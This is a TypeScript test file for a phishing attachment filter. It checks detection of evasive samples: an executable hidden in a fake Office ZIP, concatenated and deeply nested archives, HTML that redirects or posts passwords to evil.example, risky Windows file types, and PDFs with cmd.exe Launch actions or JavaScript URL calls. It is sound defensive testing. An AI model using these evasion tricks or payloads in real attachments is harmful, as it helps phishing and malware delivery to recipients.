/**
 * Attachments dressed to slip past the checks (audit a21): an archive passed off as an Office
 * document, two ZIPs in one file, ZIPs nested past the limit, active HTML the old patterns missed,
 * file types the lists lacked, and PDFs whose links and actions were written in forms the reader
 * did not know.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { listArchive } from '../../../../src/filter/phishing/attachments/archive.ts';
import { kindByContent, kindByName } from '../../../../src/filter/phishing/attachments/file-types.ts';
import { readPdf } from '../../../../src/filter/phishing/attachments/pdf-content.ts';
import { file, pe, signals, zip } from './attachment-helpers.ts';

test('a ZIP with a [Content_Types].xml is still judged: an .exe beside it counts, the package parts do not', async () => {
  const decoy = await zip([
    ['[Content_Types].xml', '<Types/>'],
    ['invoice.exe', pe()],
  ]);
  assert.deepEqual(await signals([file('invoice.zip', decoy)]), ['risky-archive-content:5[invoice.zip → invoice.exe]']);
  // A real document's own parts (a web view, a picture, its macros) are not files handed to the user.
  const docx = await zip([
    ['[Content_Types].xml', '<Types/>'],
    ['_rels/.rels', '<Relationships/>'],
    ['word/document.xml', '<w:document/>'],
    ['word/media/logo.svg', '<svg/>'],
    ['xl/webview/page.htm', '<html/>'],
    ['docProps/core.xml', '<cp/>'],
  ]);
  assert.deepEqual(await signals([file('report.docx', docx)]), []);
  const docm = await zip([
    ['[Content_Types].xml', '<Types/>'],
    ['word/vbaProject.bin', 'x'],
  ]);
  assert.deepEqual(await signals([file('report.docm', docm)]), ['macro-office:3[report.docm]']);
});

test('two ZIPs concatenated: the one in front is listed too', async () => {
  const first = await zip([['invoice.exe', pe()]]);
  const second = await zip([['readme.txt', 'hello']]);
  const both = Buffer.concat([first, second]);
  const listing = await listArchive(both);
  assert.deepEqual(listing?.entries.map((e) => e.path.join('/')).sort(), ['invoice.exe', 'readme.txt']);
  assert.deepEqual(await signals([file('docs.zip', both)]), ['risky-archive-content:5[docs.zip → invoice.exe]']);
  // Local headers in front with no directory of their own: unknown, not clean.
  const headless = first.subarray(0, first.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])));
  assert.deepEqual(await signals([file('docs.zip', Buffer.concat([headless, second]))]), [
    'unlistable-archive:1[docs.zip]',
  ]);
  // Bytes in front that are not a ZIP (a picture, a stub) change nothing.
  const picture = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(100), second]);
  assert.deepEqual(await signals([file('photo.zip', picture)]), []);
});

test('a ZIP nested past the depth limit makes the archive partly unknown', async () => {
  const inner = await zip([['invoice.exe', pe()]]);
  const mid = await zip([['inner.zip', inner]]);
  const outer = await zip([['mid.zip', mid]]);
  assert.deepEqual(await signals([file('outer.zip', outer)]), ['unlistable-archive:1[outer.zip]']);
  const listing = await listArchive(outer);
  assert.equal(listing?.partial, true);
  // One level is opened and judged as before.
  assert.deepEqual(await signals([file('outer.zip', mid)]), [
    'risky-archive-content:5[outer.zip → inner.zip → invoice.exe]',
  ]);
});

test('HTML with a meta refresh, a script or a location assignment is active; UTF-16 pages are read', async () => {
  const cases: [string, number][] = [
    ['<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head></html>', 4],
    ['<html><body><script>go()</script></body></html>', 4],
    ['<html><body><script src="x.js"></script></body></html>', 4],
    ['<html><body onload="top.location=\'https://evil.example\'"></body></html>', 4],
    ['<html><body><a onclick="location = u">x</a></body></html>', 4],
    ['<html><body><a href="https://example.com/?location=london">map</a></body></html>', 3],
  ];
  for (const [page, weight] of cases) {
    assert.deepEqual(
      await signals([file('page.html', page, 'text/html')]),
      [`html-attachment:${weight}[page.html]`],
      page,
    );
  }
  const form = '\ufeff<html><body><form action="https://evil.example/p"><input type="password"></form></body></html>';
  assert.deepEqual(await signals([file('statement.dat', Buffer.from(form, 'utf16le'))]), [
    'html-attachment:4[statement.dat]',
  ]);
  const bigEndian = Buffer.from(form, 'utf16le').swap16();
  assert.deepEqual(await signals([file('statement.dat', bigEndian)]), ['html-attachment:4[statement.dat]']);
});

test('OneNote, RDP, search-ms and the other Windows-run types are risky; WIM and DMG are disk images', async () => {
  for (const name of [
    'a.one',
    'a.onepkg',
    'a.rdp',
    'a.search-ms',
    'a.searchConnector-ms',
    'a.appinstaller',
    'a.iqy',
    'a.slk',
  ])
    assert.equal(kindByName(name), 'executable', name);
  for (const name of ['a.wim', 'a.dmg']) assert.equal(kindByName(name), 'disk-image', name);
  const one = Buffer.from([0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, ...Buffer.alloc(64)]);
  assert.equal(kindByContent(one), 'executable');
  assert.deepEqual(await signals([file('invoice.pdf', one)]), ['executable-attachment:5[invoice.pdf]']);
  assert.deepEqual(await signals([file('files.zip', await zip([['scan.rdp', 'full address:s:x']]))]), [
    'risky-archive-content:5[files.zip → scan.rdp]',
  ]);
});

/** A PDF of numbered objects (ISO 32000-1 §7.5), as pdf-content.test.ts builds them. */
function pdf(objects: { dict: string; stream?: Buffer | string }[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n', 'latin1')];
  objects.forEach((o, i) => {
    parts.push(Buffer.from(`${i + 1} 0 obj\n${o.dict}\n`, 'latin1'));
    if (o.stream !== undefined)
      parts.push(Buffer.from('stream\n'), Buffer.from(o.stream), Buffer.from('\nendstream\n'));
    parts.push(Buffer.from('endobj\n'));
  });
  parts.push(Buffer.from('trailer\n<< /Root 1 0 R >>\n%%EOF\n'));
  return Buffer.concat(parts);
}

const pages = (page: string, content: { dict: string; stream: Buffer | string }, ...more: { dict: string }[]) =>
  pdf([
    { dict: '<< /Type /Catalog /Pages 2 0 R >>' },
    { dict: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { dict: `<< /Type /Page /Parent 2 0 R /Contents 4 0 R ${page} >>` },
    content,
    ...more,
  ]);

test('PDF: a FlateDecode filter in an array, #-escaped names and an indirect URI string are read', () => {
  const text = 'BT /F1 12 Tf (Your mailbox is full) Tj ET';
  const flate = { dict: '<< /Filter [/FlateDecode] >>', stream: deflateSync(text) };
  assert.equal(readPdf(pages('', flate)).text, 'Your mailbox is full');
  const plain = { dict: '<< >>', stream: 'BT ET' };
  const escaped = pages('/Annots [<< /A << /S /URI /U#52I (http://203.0.113.9/a) >> >>]', plain);
  assert.deepEqual(readPdf(escaped).links, ['http://203.0.113.9/a']);
  const indirect = pages('/Annots [<< /A << /S /URI /URI 5 0 R >> >>]', plain, { dict: '(http://203.0.113.9/b)' });
  assert.deepEqual(readPdf(indirect).links, ['http://203.0.113.9/b']);
});

test('PDF: a Launch action or JavaScript scores like an active web page; app.launchURL targets are links', async () => {
  const plain = { dict: '<< >>', stream: 'BT ET' };
  const launch = pages('/AA << /O << /S /Launch /F (cmd.exe) >> >>', plain);
  assert.deepEqual(await signals([file('notice.pdf', launch)]), ['active-pdf:4[notice.pdf]']);
  const js = pages('/AA << /O << /S /JavaScript /JS (app.launchURL\\("http://203.0.113.9/login"\\)) >> >>', plain);
  assert.deepEqual(await signals([file('notice.pdf', js)]), ['active-pdf:4[notice.pdf]']);
  assert.deepEqual(readPdf(js).links, ['http://203.0.113.9/login']);
  assert.equal(readPdf(js).active, 'javascript');
  // Escaped names hide nothing either.
  const hidden = pages('/AA << /O << /S /L#61unch /F (cmd.exe) >> >>', plain);
  assert.deepEqual(await signals([file('notice.pdf', hidden)]), ['active-pdf:4[notice.pdf]']);
  // A plain PDF stays silent.
  assert.deepEqual(await signals([file('notice.pdf', pages('', plain))]), []);
});
